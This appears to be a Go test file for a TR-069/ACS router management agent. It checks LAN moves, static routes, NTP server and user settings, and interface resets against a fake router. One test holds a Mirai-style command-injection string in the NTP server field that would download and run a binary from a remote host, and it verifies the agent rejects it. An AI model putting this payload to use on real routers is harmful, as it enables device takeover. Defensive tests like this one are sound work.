package app_test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"gatehouse/lab/acs"
	"gatehouse/platform/fake"
)

// findRow returns the instance of a table ("Device.IP.Interface.") in which a
// parameter has a value.
func findRow(c *acs.Conversation, table, name, value string) (string, error) {
	all, err := c.GetParameterValues(table)
	if err != nil {
		return "", err
	}
	for _, p := range all {
		number, rest, _ := strings.Cut(strings.TrimPrefix(p.Name, table), ".")
		if rest == name && p.Value == value {
			return table + number + ".", nil
		}
	}
	return "", fmt.Errorf("%s*.%s: none is %q", table, name, value)
}

// setString sets strings, and wants the status.
func setString(c *acs.Conversation, wantStatus int, pairs ...string) error {
	var ps []acs.Parameter
	for _, pair := range pairs {
		name, value, _ := strings.Cut(pair, "=")
		typ := "xsd:string"
		if strings.HasSuffix(name, "Enable") {
			typ = "xsd:boolean"
		}
		ps = append(ps, acs.P(name, typ, value))
	}
	status, err := c.SetParameterValues("", ps...)
	if err == nil && status != wantStatus {
		err = fmt.Errorf("status %d of %q, want %d", status, pairs, wantStatus)
	}
	return err
}

func hasAddress(t *testing.T, r *fake.Router, link, p string) bool {
	t.Helper()
	for a, err := range r.Platform().Addresses.Addresses(t.Context()) {
		if err != nil {
			t.Fatal(err)
		}
		if a.Link == link && a.Prefix == netip.MustParsePrefix(p) {
			return true
		}
	}
	return false
}

// TestMoveLAN: the operator moves the local network to another range, router
// and pool in one request. What is read back in the session is the new range;
// the network itself is moved once, when the session is over.
func TestMoveLAN(t *testing.T) {
	story(t, acs.Options{}, config(), func(t *testing.T, h *house) {
		h.router = fake.NewLogical()
		const pool = "Device.DHCPv4.Server.Pool.1."
		var own string
		h.acs.Queue("", func(c *acs.Conversation) error {
			lan, err := findRow(c, "Device.IP.Interface.", "Name", "lan")
			if err != nil {
				return err
			}
			if own, err = findRow(c, lan+"IPv4Address.", "IPAddress", "192.168.1.1"); err != nil {
				return err
			}
			if err := setString(c, 1, own+"IPAddress=10.7.0.1", own+"SubnetMask=255.255.255.0", pool+"MinAddress=10.7.0.100",
				pool+"MaxAddress=10.7.0.200", pool+"SubnetMask=255.255.255.0", pool+"IPRouters=10.7.0.1"); err != nil {
				return err
			}
			if !hasAddress(t, h.router, "br-lan", "192.168.1.1/24") || h.router.Reloads("network") != 0 {
				t.Error("the network was moved under the session")
			}
			return wants(c, "", own+"IPAddress=10.7.0.1", pool+"MinAddress=10.7.0.100", pool+"IPRouters=10.7.0.1", own+"Status=Error")
		})
		h.start()
		if s := h.session(1); s.Err != nil {
			t.Fatal(s.Err)
		}
		time.Sleep(time.Minute)
		if !hasAddress(t, h.router, "br-lan", "10.7.0.1/24") || hasAddress(t, h.router, "br-lan", "192.168.1.1/24") {
			t.Error("the network was not moved")
		}
		if n := h.router.Reloads("network"); n != 1 {
			t.Errorf("the network was reloaded %d times", n)
		}
		if got := h.get(own + "Status"); got != "Enabled" {
			t.Errorf("the address is %s", got)
		}
		h.boot()
		if got := h.get(own + "IPAddress"); got != "10.7.0.1" {
			t.Errorf("after a reboot it is %s", got)
		}
	})
}

// TestStaticRoutes: a route is added, completed and deleted by an ACS, on a
// router whose routes we keep and on one that keeps them itself.
func TestStaticRoutes(t *testing.T) {
	for name, router := range map[string]func() *fake.Router{"br-lan": fake.New, "lan": fake.NewLogical} {
		t.Run(name, func(t *testing.T) {
			story(t, acs.Options{}, config(), func(t *testing.T, h *house) {
				h.router = router()
				const table = "Device.Routing.Router.1.IPv4Forwarding."
				var route string
				status := 0
				if name == "lan" {
					status = 1 // the network is reloaded after the session
				}
				h.acs.Queue("", func(c *acs.Conversation) error {
					lan, err := findRow(c, "Device.IP.Interface.", "Name", name)
					if err != nil {
						return err
					}
					n, _, err := c.AddObject(table, "")
					if err != nil {
						return err
					}
					route = table + itoa(n) + "."
					if err := setString(c, status, route+"DestIPAddress=192.0.2.0", route+"DestSubnetMask=255.255.255.0",
						route+"GatewayIPAddress=192.168.1.2", route+"Interface="+lan, route+"Enable=true"); err != nil {
						return err
					}
					return wants(c, "", route+"DestIPAddress=192.0.2.0", route+"Interface="+strings.TrimSuffix(lan, "."), route+"Enable=true")
				})
				h.start()
				if s := h.session(1); s.Err != nil {
					t.Fatal(s.Err)
				}
				time.Sleep(time.Minute)
				if got := h.get(route + "Status"); got != "Enabled" {
					t.Errorf("the route is %s", got)
				}
				h.acs.Queue("", func(c *acs.Conversation) error {
					_, err := c.DeleteObject(route, "")
					return err
				})
				h.knock()
				if s := h.session(2); s.Err != nil {
					t.Fatal(s.Err)
				}
				time.Sleep(time.Minute)
				for r, err := range h.router.Platform().Routes.Routes(t.Context(), false) {
					if err != nil || r.Dest == netip.MustParsePrefix("192.0.2.0/24") {
						t.Errorf("the system still has %+v (%v)", r, err)
					}
				}
			})
		})
	}
}

// TestTimeServersAndUsers: the time servers by the names of both generations of
// the standard, what a botnet once sent to one of them (field.md, Mirai), and
// a password that goes in and never comes out.
func TestTimeServersAndUsers(t *testing.T) {
	story(t, acs.Options{}, config(), func(t *testing.T, h *house) {
		const botnet = "`cd /tmp;wget http://l.ocalhost.host/2;chmod 777 2;./2`"
		h.acs.Queue("", func(c *acs.Conversation) error {
			if err := setString(c, 1, "Device.Time.NTPServer1=ntp1.example.net", "Device.Time.NTPServer2="); err != nil {
				return err
			}
			if err := wants(c, "", "Device.Time.Client.1.Servers=ntp1.example.net", "Device.Time.NTPServer1=ntp1.example.net"); err != nil {
				return err
			}
			for _, name := range []string{"Device.Time.NTPServer1", "Device.Time.Client.1.Servers"} {
				err := setString(c, 1, name+"="+botnet)
				if f := acs.FaultOf(err); f == nil || f.Code != 9003 || len(f.Parameters) != 1 || f.Parameters[0].Code != 9007 {
					t.Errorf("%s: %v", name, err)
				}
			}
			n, _, err := c.AddObject("Device.Users.User.", "")
			if err != nil {
				return err
			}
			u := "Device.Users.User." + itoa(n) + "."
			if err := setString(c, 1, u+"Username=support", u+"Password=s3cret", u+"Enable=true"); err != nil {
				return err
			}
			return wants(c, "", u+"Username=support", u+"Password=", u+"Enable=true")
		})
		h.start()
		s := h.session(1)
		if s.Err != nil {
			t.Fatal(s.Err)
		}
		time.Sleep(time.Minute)
		if h.router.Password("support") != "s3cret" {
			t.Error("the password has not arrived")
		}
		for _, e := range s.Exchanges {
			if strings.Contains(string(e.Body), "s3cret") {
				t.Error("the password came back")
			}
		}
		if strings.Contains(h.log.String(), "s3cret") {
			t.Error("the password is in the log")
		}
		now, err := h.router.Platform().Clock.Time(t.Context())
		if err != nil || !slices.Equal(now.Servers, []string{"ntp1.example.net"}) {
			t.Errorf("the system asks %v (%v)", now.Servers, err)
		}
	})
}

// TestResetInterface: a reset of the way out waits for the end of the session
// that asks for it.
func TestResetInterface(t *testing.T) {
	story(t, acs.Options{}, config(), func(t *testing.T, h *house) {
		h.router = fake.NewLogical()
		h.acs.Queue("", func(c *acs.Conversation) error {
			wan, err := findRow(c, "Device.IP.Interface.", "Name", "wan")
			if err != nil {
				return err
			}
			_, err = c.SetParameterValues("", acs.P(wan+"Reset", "xsd:boolean", "1"))
			if h.router.InterfaceRestarts("wan") != 0 {
				t.Error("it was reset under the session")
			}
			return err
		})
		h.start()
		if s := h.session(1); s.Err != nil {
			t.Fatal(s.Err)
		}
		time.Sleep(time.Minute)
		if n := h.router.InterfaceRestarts("wan"); n != 1 {
			t.Errorf("it was reset %d times", n)
		}
	})
}
